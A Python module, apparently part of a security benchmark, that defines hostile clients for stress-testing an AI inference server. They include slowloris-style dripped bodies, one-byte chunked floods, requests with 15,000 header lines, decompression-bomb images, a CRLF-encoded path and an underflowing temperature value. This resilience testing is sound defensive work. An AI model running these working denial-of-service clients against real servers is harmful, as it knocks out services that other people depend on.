"""Hostile clients of ``bench.security.hostile``: each function attacks a server until its process is terminated.

They run in their own process, so that they share the machine but not an interpreter with the measured client. Bodies
are built once, before the attack starts.
"""

import base64
import io
import json
import random
import socket
import time
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from http.client import HTTPConnection, HTTPException
from multiprocessing.synchronize import Event
from urllib.parse import urlsplit

from PIL import Image

_JSON = {"Content-Type": "application/json"}
_WORDS = ("dog", "cat", "tree", "house", "car", "cake", "snow", "fire", "star", "sun", "boat", "bird", "fish", "moon")
_TIMEOUT_S = 120.0
_PAUSE_S = 0.02
"""Pause after a rejected request; an attacker without pauses would use the processor time of the server."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One kind of hostile client."""

    summary: str
    """Description in the table."""

    run: Callable[[str], None]
    """Attacks the server at a URL until the process ends."""

    with_keys: bool = False
    """Whether the server requires an API key, which the attacker does not have."""

    chats: bool = False
    """Whether the plain client chats instead of classifying."""


def send_tiny_temperatures(url: str) -> None:
    """Three clients whose temperature is zero in float32 but not in float64."""
    body = json.dumps({"prompt": "hello", "max_tokens": 3, "temperature": 1e-300}).encode()
    _post_forever(url, "/v1/chat", [body] * 3)


def send_odd_paths(url: str) -> None:
    """Eight clients that ask for a path with an encoded line break."""
    body = json.dumps({"prompt": "hello", "max_tokens": 8}).encode()
    _post_forever(url, "/v1/chat%0a", [body] * 8)


def send_declared_pixels(url: str) -> None:
    """Six clients with eight WebP pictures of 48 bytes each that declare 25 megapixels."""
    bodies = []
    for client in range(6):
        pictures = [
            _encode_image(Image.new("RGBA", (5000, 5000), (client, index, 3, 128)), "WEBP") for index in range(8)
        ]
        bodies.append(json.dumps({"prompt": "what is it", "images": pictures}).encode())
    _post_forever(url, "/v1/classify", bodies)


def send_fill_bytes(url: str) -> None:
    """Four clients with a JPEG that holds ten million fill bytes."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 64)).save(buffer, "JPEG")
    sound = buffer.getvalue()
    bodies = []
    for client in range(4):
        data = sound[:2] + b"\xff" * (9_900_000 + client) + sound[2:]
        bodies.append(json.dumps({"prompt": "what is it", "images": [base64.b64encode(data).decode()]}).encode())
    _post_forever(url, "/v1/classify", bodies)


def send_byte_chunks(url: str) -> None:
    """One connection that sends chunks of one byte behind its 401."""
    head = b"POST /v1/chat HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    _send_forever(url, head, b"1\r\na\r\n" * 10_000)


def send_header_lines(url: str) -> None:
    """One connection whose requests have 15,000 header lines each."""
    lines = b"a:\r\n" * 15_000
    _send_forever(url, b"", b"POST /v1/chat HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n" + lines + b"\r\n")


def drip_bodies(url: str) -> None:
    """300 connections that send one byte a second of a body that is never read."""
    head = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 10000000\r\n\r\n"
    connections: list[socket.socket] = []
    _begin()
    while True:
        while len(connections) < 300:
            try:
                connections.append(_connect(url))
                connections[-1].sendall(head)
            except OSError:
                break
        for connection in list(connections):
            try:
                connection.send(b"a")
            except OSError:
                connection.close()
                connections.remove(connection)
        time.sleep(1)


def hold_decoded_pictures(url: str) -> None:
    """Forty clients with eight transparent pictures each that are small as files and large once decoded."""
    draws = random.Random(0)
    bodies = []
    for _ in range(40):
        pictures = []
        for _ in range(8):
            image = Image.new("RGBA", (1344, 1344), (draws.randrange(256), draws.randrange(256), 0, 255))
            image.putpixel((5, 5), (0, 0, 0, draws.randrange(255)))
            pictures.append(_encode_image(image, "PNG"))
        bodies.append(json.dumps({"prompt": "what is it", "images": pictures}).encode())
    _post_forever(url, "/v1/classify", bodies)


def send_dear_requests(url: str) -> None:
    """Twelve clients with eight transparent pictures and two hundred sentences each."""
    draws = random.Random(0)
    bodies = []
    for _ in range(12):
        pictures = []
        for _ in range(8):
            image = Image.new("RGBA", (64, 64), (draws.randrange(256), draws.randrange(256), 0, 255))
            image.putpixel((draws.randrange(64), 3), (0, 0, 0, 128))
            pictures.append(_encode_image(image, "PNG"))
        prompt = " ".join(f"{draws.choice(_WORDS)} {draws.choice(_WORDS)}." for _ in range(200))
        bodies.append(json.dumps({"prompt": prompt, "images": pictures}).encode())
    _post_forever(url, "/v1/classify", bodies)


ATTACKS: dict[str, Attack] = {
    "tiny_temperature": Attack(summary="temperature 1e-300", run=send_tiny_temperatures, chats=True),
    "odd_path": Attack(summary="/v1/chat%0a", run=send_odd_paths),
    "declared_pixels": Attack(summary="8 WebP of 48 bytes and 25 megapixels", run=send_declared_pixels),
    "fill_bytes": Attack(summary="JPEG with 10 MB of fill bytes", run=send_fill_bytes),
    "byte_chunks": Attack(summary="one-byte chunks behind a 401", run=send_byte_chunks, with_keys=True),
    "header_lines": Attack(summary="15,000 header lines a request", run=send_header_lines, with_keys=True),
    "dripped_bodies": Attack(summary="300 bodies at a byte a second", run=drip_bodies),
    "decoded_pictures": Attack(summary="40 requests of 8 large transparent pictures", run=hold_decoded_pictures),
    "dear_requests": Attack(summary="8 transparent pictures, 200 sentences", run=send_dear_requests),
}
"""Hostile clients by their names in the record."""


def run_attack(name: str, url: str, began: Event) -> None:
    """Attack a server until the process is terminated; the entry point of the attacker's process.

    Args:
        name: of the attack.
        url: of the server.
        began: set when the inputs are ready and the first is about to be sent; creating them takes a whole core.
    """
    global _began
    _began = began
    ATTACKS[name].run(url)


_began: Event | None = None


def _begin() -> None:
    if _began is not None:
        _began.set()


def _encode_image(image: Image.Image, kind: str) -> str:
    buffer = io.BytesIO()
    image.save(buffer, kind, **({"lossless": True, "method": 0} if kind == "WEBP" else {}))
    return base64.b64encode(buffer.getvalue()).decode()


def _post_forever(url: str, path: str, bodies: Sequence[bytes]) -> None:
    """Send each body again and again, each from its own connection and thread."""
    _begin()
    with ThreadPoolExecutor(len(bodies)) as pool:
        list(pool.map(lambda body: _post_one_forever(url, path, body), bodies))


def _post_one_forever(url: str, path: str, body: bytes) -> None:
    parts = urlsplit(url)
    while True:
        connection = HTTPConnection(parts.hostname or "127.0.0.1", parts.port, timeout=_TIMEOUT_S)
        try:
            while True:
                connection.request("POST", path, body, _JSON)
                response = connection.getresponse()
                response.read()
                if response.status >= 400:
                    time.sleep(_PAUSE_S)
        except (OSError, HTTPException):
            time.sleep(_PAUSE_S)
        finally:
            connection.close()


def _send_forever(url: str, head: bytes, block: bytes) -> None:
    """Send ``head`` once and ``block`` again and again; reconnect when the server closes the connection."""
    _begin()
    while True:
        try:
            with _connect(url) as connection:
                connection.settimeout(_TIMEOUT_S)
                connection.sendall(head)
                while True:
                    connection.sendall(block)
                    connection.setblocking(False)
                    try:
                        if not connection.recv(1 << 16):
                            break
                    except BlockingIOError:
                        pass
                    connection.settimeout(_TIMEOUT_S)
        except OSError:
            pass
        time.sleep(_PAUSE_S)


def _connect(url: str) -> socket.socket:
    parts = urlsplit(url)
    return socket.create_connection((parts.hostname or "127.0.0.1", parts.port or 80), timeout=5)
